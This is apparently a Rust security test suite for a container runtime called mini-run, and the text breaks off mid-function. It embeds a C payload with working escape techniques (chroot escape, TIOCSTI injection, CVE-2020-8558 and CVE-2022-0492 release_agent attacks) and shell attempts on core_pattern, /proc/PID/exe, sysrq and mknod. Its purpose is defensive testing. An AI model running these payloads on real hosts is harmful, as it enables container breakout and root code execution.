//! Escape attempts against mini-run (issue 9): each test plants an
//! attacker's payload in an image or runs it in a container, and then
//! checks the *host*: its binaries' hashes, its `core_pattern`, its mounts,
//! its cgroups' release agents, its terminal, its network. A defence
//! mini-run does not have yet is a *known gap*: the test still runs the
//! attack and checks that the host came to no harm, and says `known gap: …`
//! on its output (the book's security chapter lists them).
//!
//! Attempts already made elsewhere are not repeated here: in
//! tests/mini_run.rs, `security` (mount in the container, capabilities,
//! descriptors open), `leaked_descriptors` (`-w /proc/self/fd/N`),
//! `symlinked_etc` (the `/etc` files and a volume through `/escape -> /`),
//! `no_terminal` (no controlling terminal without `-t`) and `init_signals`
//! (reading `/proc/1/exe` of `--init`); lesson 28 (tests/lessons.rs) runs
//! `mknod` of a disk and a write to `/proc/sys/kernel/panic`.
//!
//! Some payloads are a small C program, compiled here statically so that it
//! runs in the busybox image: the attacks are what real exploits do, and C
//! is what they are written in. The rest are busybox shell.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use support::{
    Failed, Requirement::*, cmd, container, describe, ensure, ensure_eq, left_nothing, read_until,
    run_for, scratch, spawn_group, stdout,
};

const NEEDS: &[support::Requirement] = &[Root, Busybox, Overlayfs];
const USERNS: &[support::Requirement] = &[Root, Busybox, Overlayfs, UserNamespaces];
const NET: &[support::Requirement] = &[Root, Busybox, Overlayfs, Nft, UserNamespaces];

/// How many tests said `known gap:`.
static GAPS: AtomicUsize = AtomicUsize::new(0);

fn known_gap(what: &str) {
    GAPS.fetch_add(1, Ordering::Relaxed);
    println!("known gap: {what}");
}

fn main() {
    support::bin("mini-run");
    // Compiled before any test thread forks: a binary written while
    // another thread forks can fail to exec with ETXTBSY.
    let payload_dir = scratch();
    let payload = compile_payload(payload_dir.path());
    let no_payload = payload.as_ref().err().cloned();
    let payload = payload.ok().map(Arc::new);
    let with_payload = |f: fn(&Path) -> Result<(), Failed>| {
        let payload = payload.clone();
        move || f(payload.as_deref().ok_or("no payload")?)
    };

    let mut suite = support::Suite::new();
    suite.keep(payload_dir);
    suite.test_if(
        "the_classic_chroot_escape_climbs_only_to_the_container_s_root",
        NEEDS,
        no_payload.clone(),
        with_payload(chroot_escape),
    );
    suite.test_if(
        "an_image_s_symlinked_proc_sys_dev_dev_null_and_bind_targets_mount_nothing_on_the_host",
        NEEDS,
        None,
        symlinked_mount_targets,
    );
    suite.test_if(
        "proc_cwd_root_and_fd_of_every_visible_process_lead_nowhere_on_the_host",
        NEEDS,
        None,
        proc_links,
    );
    suite.test_if(
        "writes_to_every_visible_proc_pid_exe_leave_the_host_binaries_alone",
        NEEDS,
        None,
        proc_pid_exe,
    );
    suite.test_if(
        "mount_mknod_and_reboot_are_refused_also_after_unshare_urm",
        USERNS,
        None,
        mount_mknod_reboot,
    );
    suite.test_if(
        "a_cgroup_v1_release_agent_is_out_of_reach_of_unshare_and_a_cgroup_mount",
        USERNS,
        no_payload.clone(),
        with_payload(release_agent),
    );
    suite.test_if(
        "core_pattern_and_sysrq_trigger_stay_the_host_s",
        USERNS,
        None,
        core_pattern_and_sysrq,
    );
    suite.test_if(
        "tiocsti_types_nothing_into_the_host_s_terminal",
        NEEDS,
        no_payload.clone().or(needs_tool("setsid")),
        with_payload(tiocsti),
    );
    suite.test_if(
        "a_container_on_a_bridge_reaches_no_host_loopback_beyond_it",
        NET,
        no_payload.or(needs_tool("unshare")).or(needs_tool("ip")),
        with_payload(beyond_the_bridge),
    );
    suite.run_then(|conclusion| {
        let gaps = GAPS.load(Ordering::Relaxed);
        let attempts = conclusion.num_passed + conclusion.num_failed;
        support::tally::add(
            support::tally::Tally::Escape,
            conclusion.num_passed as usize,
        );
        Some(match conclusion.num_failed {
            0 => format!("escapes: {attempts} attempts, all stopped ({gaps} known gaps)"),
            failed => format!(
                "escapes: {attempts} attempts, {failed} NOT shown stopped ({gaps} known gaps)"
            ),
        })
    })
}

fn needs_tool(tool: &str) -> Option<String> {
    lab::machine::which(tool)
        .is_none()
        .then(|| format!("needs the program {tool}"))
}

// ---------------------------------------------------------------------------
// Payloads and containers

/// The attacker's program. Each subcommand tries one escape and prints a
/// line per attempt, "WHAT: ok" or "WHAT: ERRNO"; whether the host came to
/// harm, the test finds out from outside.
const PAYLOAD_C: &str = r#"
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static int say(const char *what, int rc) {
    if (rc < 0) printf("%s: %s\n", what, strerrorname_np(errno));
    else printf("%s: ok\n", what);
    fflush(stdout);
    return rc;
}

static int write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return -1;
    int rc = write(fd, text, strlen(text)) < 0 ? -1 : 0;
    int saved = errno;
    close(fd);
    errno = saved;
    return rc;
}

/* The classic: chroot into a subdirectory without entering it, so that the
 * working directory is left outside the new root; climb with "..", which
 * stops only at the process's root, now behind it; chroot where it ends. */
static int chroot_escape(const char *probe) {
    mkdir("/tmp/jail", 0755);
    if (say("chroot /tmp/jail", chroot("/tmp/jail")) < 0) return 1;
    for (int i = 0; i < 64; i++) chdir("..");
    say("chroot .", chroot("."));
    printf("host probe: %s\n", access(probe, F_OK) == 0 ? "seen" : "absent");
    printf("image marker: %s\n", access("/image-marker", F_OK) == 0 ? "seen" : "absent");
    return 0;
}

/* TIOCSTI: push bytes into the input of the terminal on stdin, as if typed. */
static int tiocsti(const char *text) {
    int rc = 0;
    for (const char *c = text; *c && rc == 0; c++) rc = ioctl(0, TIOCSTI, c);
    say("tiocsti", rc);
    return 0;
}

/* CVE-2020-8558: with route_localnet on, a host accepts a packet for
 * 127.0.0.1 arriving on the bridge. The header is written here (raw
 * socket, CAP_NET_RAW), the packet handed to the gateway. */
static int localnet(const char *gateway, int port) {
    char packet[sizeof(struct iphdr) + sizeof(struct udphdr) + 8] = {0};
    struct iphdr *ip = (struct iphdr *)packet;
    struct udphdr *udp = (struct udphdr *)(packet + sizeof *ip);
    memcpy(packet + sizeof *ip + sizeof *udp, "ESCAPED\n", 8);
    ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(sizeof packet);
    ip->daddr = htonl(INADDR_LOOPBACK);
    udp->source = htons(40000); udp->dest = htons(port);
    udp->len = htons(sizeof *udp + 8);
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (say("socket(SOCK_RAW)", s) < 0) return 1;
    struct sockaddr_in to = { .sin_family = AF_INET };
    inet_pton(AF_INET, gateway, &to.sin_addr);
    for (int i = 0; i < 3; i++)
        say("sendto 127.0.0.1 through the gateway",
            sendto(s, packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0 ? -1 : 0);
    return 0;
}

/* CVE-2022-0492: a user and a cgroup namespace of one's own, in which root
 * may mount a cgroup v1 hierarchy and write its release_agent, a program
 * the kernel runs as root on the host when a cgroup empties. */
static int release_agent(const char *agent) {
    if (say("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER)) < 0) return 1;
    say("setgroups deny", write_file("/proc/self/setgroups", "deny"));
    say("uid_map 0 0 1", write_file("/proc/self/uid_map", "0 0 1"));
    say("gid_map 0 0 1", write_file("/proc/self/gid_map", "0 0 1"));
    say("unshare(CLONE_NEWNS|CLONE_NEWCGROUP)", unshare(CLONE_NEWNS | CLONE_NEWCGROUP));
    mkdir("/tmp/cg", 0755);
    const char *options[] = {"memory", "pids", "rdma", "none,name=escape", NULL};
    for (const char **o = options; *o; o++) {
        char what[64];
        snprintf(what, sizeof what, "mount cgroup -o %s", *o);
        if (say(what, mount("cgroup", "/tmp/cg", "cgroup", 0, *o)) == 0) {
            say("  release_agent", write_file("/tmp/cg/release_agent", agent));
            say("  notify_on_release", write_file("/tmp/cg/notify_on_release", "1"));
            mkdir("/tmp/cg/escape", 0755);
            say("  escape/notify_on_release", write_file("/tmp/cg/escape/notify_on_release", "1"));
            rmdir("/tmp/cg/escape");
            umount("/tmp/cg");
        }
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 3 && !strcmp(argv[1], "chroot-escape")) return chroot_escape(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "tiocsti")) return tiocsti(argv[2]);
    if (argc >= 4 && !strcmp(argv[1], "localnet")) return localnet(argv[2], atoi(argv[3]));
    if (argc >= 3 && !strcmp(argv[1], "release-agent")) return release_agent(argv[2]);
    fprintf(stderr, "usage: payload chroot-escape PATH | tiocsti TEXT | localnet GATEWAY PORT | release-agent PROGRAM\n");
    return 2;
}
"#;

/// Compiles [`PAYLOAD_C`] statically (the image has no C library).
fn compile_payload(dir: &Path) -> Result<PathBuf, String> {
    if lab::machine::which("cc").is_none() {
        return Err("needs the program cc (a C compiler with a static libc)".into());
    }
    let source = dir.join("payload.c");
    let binary = dir.join("payload");
    std::fs::write(&source, PAYLOAD_C).map_err(|e| format!("write {}: {e}", source.display()))?;
    let out = Command::new("cc")
        .args(["-static", "-O2", "-o"])
        .arg(&binary)
        .arg(&source)
        .output()
        .map_err(|e| format!("cc: {e}"))?;
    if out.status.success() {
        Ok(binary)
    } else {
        Err(format!(
            "needs cc -static to work: {}",
            String::from_utf8_lossy(&out.stderr)
                .lines()
                .next()
                .unwrap_or("")
        ))
    }
}

/// A copy of the default rootfs to plant payloads in, with a file that
/// only the image has, and the compiled payload at /payload if given.
fn rootfs_copy(dir: &Path, payload: Option<&Path>) -> Result<PathBuf, Failed> {
    let root = support::rootfs_copy(dir)?;
    std::fs::write(root.join("image-marker"), "")?;
    if let Some(payload) = payload {
        std::fs::copy(payload, root.join("payload"))?;
    }
    Ok(root)
}

/// The host's mounts, as "mount point, type, source": but those of other
/// tests running meanwhile (their scratch directories, mini-run's own
/// state), which come and go.
fn host_mounts(mine: &Path) -> Result<BTreeSet<String>, Failed> {
    let text = std::fs::read_to_string("/proc/self/mountinfo")?;
    Ok(text
        .lines()
        .filter_map(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let point = *fields.get(4)?;
            let after = line.split(" - ").nth(1)?;
            let others = [
                "/run/underhood",
                "/var/lib/underhood",
                "/var/cache/underhood",
            ];
            let theirs = others.iter().any(|p| point.starts_with(p))
                || (point.starts_with("/tmp/underhood-test-")
                    && !point.starts_with(&*mine.to_string_lossy()));
            (!theirs).then(|| format!("{point} {after}"))
        })
        .collect())
}

/// Fails unless the host's mounts are as they were.
fn same_mounts(before: &BTreeSet<String>, mine: &Path) -> Result<(), Failed> {
    let after = host_mounts(mine)?;
    let new: Vec<&String> = after.difference(before).collect();
    let gone: Vec<&String> = before.difference(&after).collect();
    ensure(
        new.is_empty() && gone.is_empty(),
        format!("the host's mounts changed: new {new:?}, gone {gone:?}"),
    )
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// What the payload said of `what`: "ok", an errno name, or None.
fn said<'a>(lines: &'a [String], what: &str) -> Option<&'a str> {
    lines
        .iter()
        .find_map(|l| l.trim_start().strip_prefix(what)?.strip_prefix(": "))
}

// ---------------------------------------------------------------------------
// The attempts

fn chroot_escape(payload: &Path) -> Result<(), Failed> {
    let dir = scratch();
    let root = rootfs_copy(dir.path(), Some(payload))?;
    // A file only the host has: the escape would see it at its own path.
    let probe = dir.path().join("host-only");
    std::fs::write(&probe, "")?;
    let mounts = host_mounts(dir.path())?;
    let probe_arg = probe.to_string_lossy();
    let (out, lines) = container(
        &["--rootfs", root.to_str().ok_or("a path")?],
        &format!("/payload chroot-escape {probe_arg}; test -d /tmp/jail && echo jail-in-image"),
    )?;
    ensure(out.status.success(), describe(&out))?;
    // CAP_SYS_CHROOT is one of Docker's: the chroots succeed, and the climb
    // ends at the container's root, which pivot_root made the mount
    // namespace's root; the host's tree is unmounted from it.
    ensure_eq(said(&lines, "chroot ."), Some("ok"), &describe(&out))?;
    ensure_eq(said(&lines, "host probe"), Some("absent"), &describe(&out))?;
    ensure_eq(said(&lines, "image marker"), Some("seen"), &describe(&out))?;
    ensure(
        !Path::new("/tmp/jail").exists(),
        "the jail was made in the host's /tmp",
    )?;
    same_mounts(&mounts, dir.path())
}

/// One image to try: the path in it replaced by a symlink to `aim`.
struct Planted {
    path: &'static str,
    aim: String,
}

fn symlinked_mount_targets() -> Result<(), Failed> {
    // Each of the paths mini-run mounts on, in a fresh copy of the image,
    // made a symlink to a host directory (or, for /dev/null and a bind
    // target that is a file, to a host file): with a climb of "..", or
    // absolute. The host's target holds one file, which must stay the only
    // thing there, and nothing may be mounted on it.
    let dir = scratch();
    let aimed = dir.path().join("aimed");
    std::fs::create_dir(&aimed)?;
    std::fs::write(aimed.join("host-file"), "host\n")?;
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "host file\n")?;
    let climb = |path: &Path| format!("../../../../../../../..{}", path.display());
    let absolute = |path: &Path| path.display().to_string();
    let mut planted = Vec::new();
    for path in ["/proc", "/sys", "/dev", "/dev/shm", "/dev/pts", "/vol"] {
        planted.push(Planted {
            path,
            aim: climb(&aimed),
        });
        planted.push(Planted {
            path,
            aim: absolute(&aimed),
        });
    }
    for path in ["/dev/null", "/etc/bound"] {
        planted.push(Planted {
            path,
            aim: climb(&victim),
        });
        planted.push(Planted {
            path,
            aim: absolute(&victim),
        });
    }
    // What the container binds on /vol and /etc/bound.
    let source = dir.path().join("source");
    std::fs::create_dir(&source)?;
    std::fs::write(source.join("from-volume"), "")?;
    let file_source = dir.path().join("file-source");
    std::fs::write(&file_source, "from the volume\n")?;
    let mounts = host_mounts(dir.path())?;
    let mut outcomes = Vec::new();
    for (n, plant) in planted.iter().enumerate() {
        let copy = dir.path().join(format!("image-{n}"));
        std::fs::create_dir(&copy)?;
        let root = rootfs_copy(&copy, None)?;
        let inside = root.join(plant.path.trim_start_matches('/'));
        if inside.is_dir() && !inside.is_symlink() {
            std::fs::remove_dir_all(&inside)?;
        } else if inside.exists() || inside.is_symlink() {
            std::fs::remove_file(&inside)?;
        }
        std::os::unix::fs::symlink(&plant.aim, &inside)?;
        let volume = format!("{}:/vol", source.display());
        let file_volume = format!("{}:/etc/bound", file_source.display());
        let (out, _) = container(
            &[
                "--rootfs",
                root.to_str().ok_or("a path")?,
                "-v",
                &volume,
                "-v",
                &file_volume,
            ],
            "cat /proc/self/stat > /dev/null && ls /vol && cat /etc/bound",
        )?;
        let outcome = match out.status.code() {
            Some(0) => "ran, its mounts inside the rootfs".to_string(),
            Some(125) => format!("refused: {}", support::stderr(&out).trim()),
            other => format!("status {other:?}: {}", support::stderr(&out).trim()),
        };
        outcomes.push(format!("{} -> {}: {outcome}", plant.path, plant.aim));
        let listed: Vec<String> = std::fs::read_dir(&aimed)?
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        ensure_eq(
            &listed,
            &vec!["host-file".to_string()],
            &format!(
                "the host directory behind {} -> {}\n{}",
                plant.path,
                plant.aim,
                describe(&out)
            ),
        )?;
        ensure_eq(
            std::fs::read_to_string(&victim)?.as_str(),
            "host file\n",
            &format!("the host file behind {} -> {}", plant.path, plant.aim),
        )?;
        ensure(
            std::fs::symlink_metadata(&victim)?.is_file(),
            "the host file is no longer a regular file",
        )?;
        same_mounts(&mounts, dir.path())?;
        std::fs::remove_dir_all(&copy)?;
    }
    for outcome in outcomes {
        println!("  {outcome}");
    }
    Ok(())
}

fn proc_links() -> Result<(), Failed> {
    // A host directory with a file of an unlikely name, handed to mini-run
    // as its descriptor 7 (a caller's leak), with --init so that pid 1 is
    // mini-run's own code. In the container, every /proc/PID/cwd, root
    // and fd/N of every process it can see is entered, listed, and climbed
    // from: none may show the host's file.
    let dir = scratch();
    let secret = format!("host-secret-{}", std::process::id());
    std::fs::write(dir.path().join(&secret), "")?;
    let climb = format!("../../../../../../../..{}", dir.path().display());
    let script = format!(
        "cat /dev/zero > /dev/null & n=0; \
         for link in /proc/[0-9]*/cwd /proc/[0-9]*/root /proc/[0-9]*/fd/*; do \
           n=$((n+1)); \
           ls -a \"$link/\" 2>/dev/null | grep -q {secret} && echo \"LEAK $link\"; \
           ls -a \"$link/{climb}\" 2>/dev/null | grep -q {secret} && echo \"LEAK $link/..\"; \
           (cd \"$link\" 2>/dev/null && cd {climb} 2>/dev/null && ls -a | grep -q {secret}) && echo \"LEAK cd $link\"; \
         done; echo \"links $n\"; kill $!"
    );
    let mini_run = support::bin("mini-run");
    let out = run_for(
        Command::new("sh")
            .arg("-c")
            .arg("exec \"$0\" run --rm --network none --init -- sh -c \"hostname; $1\" 7<\"$2\"")
            .arg(&mini_run)
            .arg(&script)
            .arg(dir.path())
            .env("LC_ALL", "C")
            .stdin(Stdio::null()),
        60,
    )?;
    let lines: Vec<String> = stdout(&out).lines().map(String::from).collect();
    left_nothing(lines.first().ok_or(describe(&out))?)?;
    ensure(out.status.success(), describe(&out))?;
    let leaks: Vec<&String> = lines.iter().filter(|l| l.starts_with("LEAK")).collect();
    ensure(leaks.is_empty(), format!("host paths reached: {leaks:?}"))?;
    let tried = lines
        .iter()
        .find_map(|l| l.strip_prefix("links "))
        .ok_or(describe(&out))?;
    println!("  {tried} /proc links tried, none reached the host");
    Ok(())
}

/// The host pids of the processes in the pid namespace of host pid `pid`.
fn in_pid_namespace(pid: &str) -> Result<Vec<String>, Failed> {
    let ns = std::fs::read_link(format!("/proc/{pid}/ns/pid"))?;
    Ok(std::fs::read_dir("/proc")?
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|p| p.chars().all(|c| c.is_ascii_digit()))
        .filter(|p| std::fs::read_link(format!("/proc/{p}/ns/pid")).is_ok_and(|l| l == ns))
        .collect())
}

/// The hash of every binary behind a /proc/PID/exe of these processes,
/// read from the host (through the link, which crosses mount namespaces),
/// by the link's target as the host names it.
fn exe_hashes(pids: &[String]) -> BTreeMap<String, String> {
    pids.iter()
        .filter_map(|p| {
            let exe = format!("/proc/{p}/exe");
            let name = std::fs::read_link(&exe).ok()?;
            let bytes = std::fs::read(&exe).ok()?;
            Some((name.display().to_string(), sha256(&bytes)))
        })
        .collect()
}

fn proc_pid_exe() -> Result<(), Failed> {
    use std::io::BufRead;
    // With --init, pid 1 is mini-run's binary from the host's build tree;
    // the shell and a background cat are busybox, the image's, from the
    // host's /var/cache. Once the test has hashed every binary behind the
    // container's processes, the container appends to each /proc/PID/exe,
    // and then the test hashes them again, the processes still running.
    let mut child = spawn_group(
        cmd("mini-run")
            .args(["run", "--rm", "--network", "none", "--init", "--"])
            .args([
                "sh",
                "-c",
                "hostname; cat > /dev/null < /dev/zero & echo ready; read go; \
                 for p in /proc/[0-9]*; do \
                   n=${p#/proc/}; \
                   { printf X >> $p/exe; } 2>/dev/null && echo \"wrote $n\" || echo \"refused $n\"; \
                   ( : < $p/exe ) 2>/dev/null && echo \"opened $n\"; \
                 done; echo done; read end; kill $!",
            ])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped()),
    )?;
    let mut stdin = child.0.stdin.take().ok_or("no stdin")?;
    let mut reader = std::io::BufReader::new(child.0.stdout.take().ok_or("no stdout")?);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    let id = line.trim().to_string();
    line.clear();
    reader.read_line(&mut line)?;
    ensure_eq(line.trim(), "ready", "the container started")?;
    let children = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", child.0.id()))?;
    let pid_1 = children
        .split_whitespace()
        .next()
        .ok_or("no container")?
        .to_string();
    let pids = in_pid_namespace(&pid_1)?;
    let before = exe_hashes(&pids);
    let on_disk = [
        support::bin("mini-run"),
        PathBuf::from("/var/cache/underhood/rootfs/default/bin/busybox"),
    ];
    let disk_before: Vec<String> = on_disk
        .iter()
        .map(|p| std::fs::read(p).map(|b| sha256(&b)))
        .collect::<Result<_, _>>()?;
    ensure(
        before.keys().any(|k| k.ends_with("/mini-run")) && before.len() >= 2,
        format!("the container's binaries, seen from the host: {before:?}"),
    )?;
    writeln!(stdin, "go")?;
    let mut said = Vec::new();
    loop {
        line.clear();
        ensure(
            reader.read_line(&mut line)? > 0,
            format!("no done: {said:?}"),
        )?;
        if line.trim() == "done" {
            break;
        }
        said.push(line.trim().to_string());
    }
    let after = exe_hashes(&pids);
    writeln!(stdin, "end")?;
    drop(stdin);
    let status = child.0.wait()?;
    ensure_eq(&status.code(), &Some(0), "the container's status")?;
    left_nothing(&id)?;
    ensure_eq(
        &after,
        &before,
        "the hashes of the binaries behind /proc/PID/exe",
    )?;
    let disk_after: Vec<String> = on_disk
        .iter()
        .map(|p| std::fs::read(p).map(|b| sha256(&b)))
        .collect::<Result<_, _>>()?;
    ensure_eq(
        &disk_after,
        &disk_before,
        "mini-run's and the image's binaries on disk",
    )?;
    let wrote: Vec<&String> = said.iter().filter(|l| l.starts_with("wrote")).collect();
    ensure(
        wrote.is_empty(),
        format!("writes through /proc/PID/exe succeeded: {wrote:?}"),
    )?;
    // mini-run's init made itself not dumpable: its exe cannot even be opened.
    ensure(
        !said.iter().any(|l| l == "opened 1"),
        format!("/proc/1/exe (mini-run's init) opened: {said:?}"),
    )?;
    println!(
        "  {} processes' exe refused; binaries: {}",
        said.iter().filter(|l| l.starts_with("refused")).count(),
        before.keys().cloned().collect::<Vec<_>>().join(", ")
    );
    Ok(())
}

/// The host's root filesystem's device numbers, as mknod takes them
/// ("8 0" when the root is on no block device).
fn root_device() -> String {
    use std::os::unix::fs::MetadataExt;
    let dev = std::fs::metadata("/").map(|m| m.dev()).unwrap_or(0);
    let (major, minor) = (nix::sys::stat::major(dev), nix::sys::stat::minor(dev));
    if major == 0 {
        "8 0".into()
    } else {
        format!("{major} {minor}")
    }
}

fn boot_id() -> Result<String, Failed> {
    Ok(std::fs::read_to_string("/proc/sys/kernel/random/boot_id")?)
}

fn mount_mknod_reboot() -> Result<(), Failed> {
    // mount of what would reach the host (a fresh proc and sysfs, the
    // cgroup2 tree, a bind of /), mknod of the host's root disk, and
    // reboot: in the container, and again as root of a user and mount
    // namespace of its own. reboot runs only in a pid namespace that is not
    // the host's: there, the kernel would end the namespace, not the host.
    let dir = scratch();
    let mounts = host_mounts(dir.path())?;
    let boot = boot_id()?;
    let host_pid_ns = std::fs::read_link("/proc/self/ns/pid")?;
    let attempts = format!(
        "mkdir -p /tmp/m; \
         for fs in proc sysfs cgroup2 tmpfs; do mount -t $fs $fs /tmp/m 2>/dev/null && echo \"$1 mount $fs: ok\" && umount /tmp/m || echo \"$1 mount $fs: refused\"; done; \
         mount --bind / /tmp/m 2>/dev/null && echo \"$1 bind: ok\" || echo \"$1 bind: refused\"; \
         mknod /tmp/disk b {} 2>/dev/null && echo \"$1 mknod: ok\" || echo \"$1 mknod: refused\"; \
         test \"$(readlink /proc/self/ns/pid)\" != '{}' && {{ reboot -f 2>/dev/null; echo \"$1 reboot: refused\"; }}",
        root_device(),
        host_pid_ns.display()
    );
    let script = format!(
        "cat > /tmp/try <<'EOF'\n{attempts}\nEOF\n\
         sh /tmp/try container; \
         unshare -Urm sh /tmp/try userns && echo 'unshare -Urm: ok' || echo 'unshare -Urm: refused'"
    );
    let (out, lines) = container(&[], &script)?;
    ensure(out.status.success(), describe(&out))?;
    for place in ["container", "userns"] {
        for what in [
            "mount proc",
            "mount sysfs",
            "mount cgroup2",
            "bind",
            "mknod",
            "reboot",
        ] {
            ensure_eq(
                said(&lines, &format!("{place} {what}")),
                Some("refused"),
                &format!("{place}: {what}\n{}", describe(&out)),
            )?;
        }
    }
    ensure_eq(
        said(&lines, "container mount tmpfs"),
        Some("refused"),
        &describe(&out),
    )?;
    same_mounts(&mounts, dir.path())?;
    ensure_eq(boot_id()?, boot, "the host's boot id")?;
    if said(&lines, "unshare -Urm") == Some("ok") {
        let tmpfs = said(&lines, "userns mount tmpfs") == Some("ok");
        known_gap(&format!(
            "unshare -Urm is allowed: no seccomp filter refuses unshare(CLONE_NEWUSER), and root of the new user namespace {}; \
             the host's mounts, disks and boot are untouched",
            if tmpfs {
                "mounts a tmpfs in its own mount namespace"
            } else {
                "holds a full capability set over it"
            }
        ));
    }
    Ok(())
}

/// The release_agent and notify_on_release of every cgroup v1 hierarchy's
/// root on the host.
fn release_agents() -> BTreeMap<PathBuf, String> {
    let mut found = BTreeMap::new();
    for entry in std::fs::read_dir("/sys/fs/cgroup")
        .into_iter()
        .flatten()
        .flatten()
    {
        for file in ["release_agent", "notify_on_release"] {
            let path = entry.path().join(file);
            if let Ok(text) = std::fs::read_to_string(&path) {
                found.insert(path, text);
            }
        }
    }
    found
}

/// Puts the hierarchies' release agents back if a test changed them.
struct ReleaseAgentGuard(BTreeMap<PathBuf, String>);

impl Drop for ReleaseAgentGuard {
    fn drop(&mut self) {
        for (path, text) in &self.0 {
            if std::fs::read_to_string(path).ok().as_ref() != Some(text) {
                let _ = std::fs::write(path, if text.trim().is_empty() { "\n" } else { text });
            }
        }
    }
}

fn release_agent(payload: &Path) -> Result<(), Failed> {
    let guard = ReleaseAgentGuard(release_agents());
    let dir = scratch();
    let root = rootfs_copy(dir.path(), Some(payload))?;
    // The agent, were it set, would leave a mark on the host.
    let mark = dir.path().join("agent-ran");
    let agent = dir.path().join("agent");
    std::fs::write(&agent, format!("#!/bin/sh\ntouch {}\n", mark.display()))?;
    let mounts = host_mounts(dir.path())?;
    let (out, lines) = container(
        &["--rootfs", root.to_str().ok_or("a path")?],
        &format!("/payload release-agent {}", agent.display()),
    )?;
    ensure(out.status.success(), describe(&out))?;
    ensure_eq(&release_agents(), &guard.0, "the host's release agents")?;
    ensure(!mark.exists(), "the release agent ran on the host")?;
    ensure(
        said(&lines, "release_agent").is_none_or(|r| r != "ok"),
        format!("release_agent written\n{}", describe(&out)),
    )?;
    same_mounts(&mounts, dir.path())?;
    let mounted: Vec<&str> = lines
        .iter()
        .filter_map(|l| l.strip_prefix("mount cgroup -o ")?.strip_suffix(": ok"))
        .collect();
    for line in &lines {
        println!("  {line}");
    }
    if said(&lines, "unshare(CLONE_NEWUSER)") == Some("ok") {
        known_gap(&format!(
            "unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWCGROUP) is allowed (no seccomp filter){}; \
             release_agent stays out of reach only because the container's cgroup namespace roots the hierarchy \
             at its own cgroup and the kernel (since 5.17) lets no user namespace but the host's write it",
            if mounted.is_empty() {
                String::new()
            } else {
                format!(
                    ", and it mounted the cgroup v1 hierarchies {}{}",
                    mounted.join(", "),
                    if said(&lines, "escape/notify_on_release") == Some("ok") {
                        " and made a cgroup of its own under its container's"
                    } else {
                        ""
                    }
                )
            }
        ));
    }
    Ok(())
}

/// Puts core_pattern back if a test changed it.
struct CorePatternGuard(String);

const CORE_PATTERN: &str = "/proc/sys/kernel/core_pattern";

impl Drop for CorePatternGuard {
    fn drop(&mut self) {
        if std::fs::read_to_string(CORE_PATTERN).ok().as_ref() != Some(&self.0) {
            let _ = std::fs::write(CORE_PATTERN, &self.0);
        }
    }
}

/// How many records of the kernel's log mention sysrq: /dev/kmsg read
/// from its start until nothing is left (EAGAIN), one record a read.
fn sysrq_lines() -> Result<usize, Failed> {
    use std::io::Read;
    use std::os::unix::fs::OpenOptionsExt;
    let mut kmsg = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(nix::libc::O_NONBLOCK)
        .open("/dev/kmsg")?;
    let mut record = vec![0u8; 8192];
    let mut count = 0;
    loop {
        match kmsg.read(&mut record) {
            Ok(0) => break,
            Ok(n) => {
                let text = String::from_utf8_lossy(&record[..n]).to_lowercase();
                count += usize::from(text.contains("sysrq"));
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
            // A record overwritten while read: the next one follows.
            Err(e) if e.raw_os_error() == Some(nix::libc::EPIPE) => continue,
            Err(e) => return Err(format!("read /dev/kmsg: {e}").into()),
        }
    }
    Ok(count)
}

fn core_pattern_and_sysrq() -> Result<(), Failed> {
    let guard = CorePatternGuard(std::fs::read_to_string(CORE_PATTERN)?);
    let dir = scratch();
    let mark = dir.path().join("dumped");
    let sysrq = Path::new("/proc/sysrq-trigger").exists();
    let log_before = if sysrq { Some(sysrq_lines()?) } else { None };
    let mounts = host_mounts(dir.path())?;
    // A pipe in core_pattern runs its program as root on the host at the
    // next core dump anywhere; "h" makes sysrq print its help, harmlessly.
    let pattern = format!("|/bin/sh -c 'touch {}'", mark.display());
    let attempts = "echo \"$PATTERN\" > /proc/sys/kernel/core_pattern 2>/dev/null && echo \"$1 core_pattern: ok\" || echo \"$1 core_pattern: refused\"; \
         echo h > /proc/sysrq-trigger 2>/dev/null && echo \"$1 sysrq: ok\" || echo \"$1 sysrq: refused\"";
    let script = format!(
        "cat > /tmp/try <<'EOF'\n{attempts}\nEOF\n\
         sh /tmp/try container; \
         unshare -Urm sh -c 'mount -o remount,rw /proc/sys 2>/dev/null && echo \"remount: ok\" || echo \"remount: refused\"; \
                             umount /proc/sys 2>/dev/null && echo \"umount: ok\" || echo \"umount: refused\"; \
                             sh /tmp/try userns'; \
         unshare -Urmpf sh -c 'mkdir -p /tmp/p; mount -t proc proc /tmp/p 2>/dev/null && echo \"fresh proc: ok\" || echo \"fresh proc: refused\"; \
                               echo \"$PATTERN\" > /tmp/p/sys/kernel/core_pattern 2>/dev/null && echo \"fresh core_pattern: ok\" || echo \"fresh core_pattern: refused\"'"
    );
    let env = format!("PATTERN={pattern}");
